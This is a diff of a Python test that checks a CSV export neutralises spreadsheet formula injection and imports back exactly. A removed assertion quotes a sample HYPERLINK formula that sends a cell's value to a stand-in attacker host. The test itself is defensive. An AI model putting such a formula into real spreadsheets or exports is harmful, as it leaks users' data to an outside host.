@@ -64,7 +64,10 @@ def test_csv_export_neutralises_formulas_and_imports_back_exactly(
     for row in rows:
         for name, value in row.items():
             assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
-    assert rows[1]["subject"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" or rows[0]["subject"].startswith("'=")
+    by_id = {row["id"]: row for row in rows}
+    assert {name: by_id["F-1"][name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+    assert by_id["F-2"]["subject"] == "''=already quoted" and by_id["F-2"]["customer_name"] == "'Plain' Name"
+    assert by_id["F-2"]["body"].startswith("'\tindented") and by_id["F-2"]["customer_phone"] == "'+358 40 123"
     again = tmp_path / "again"
     assert run(capsys, "import", str(exported), "--data-dir", str(again))[0] == 0
     for complaint_id in ("F-1", "F-2"):
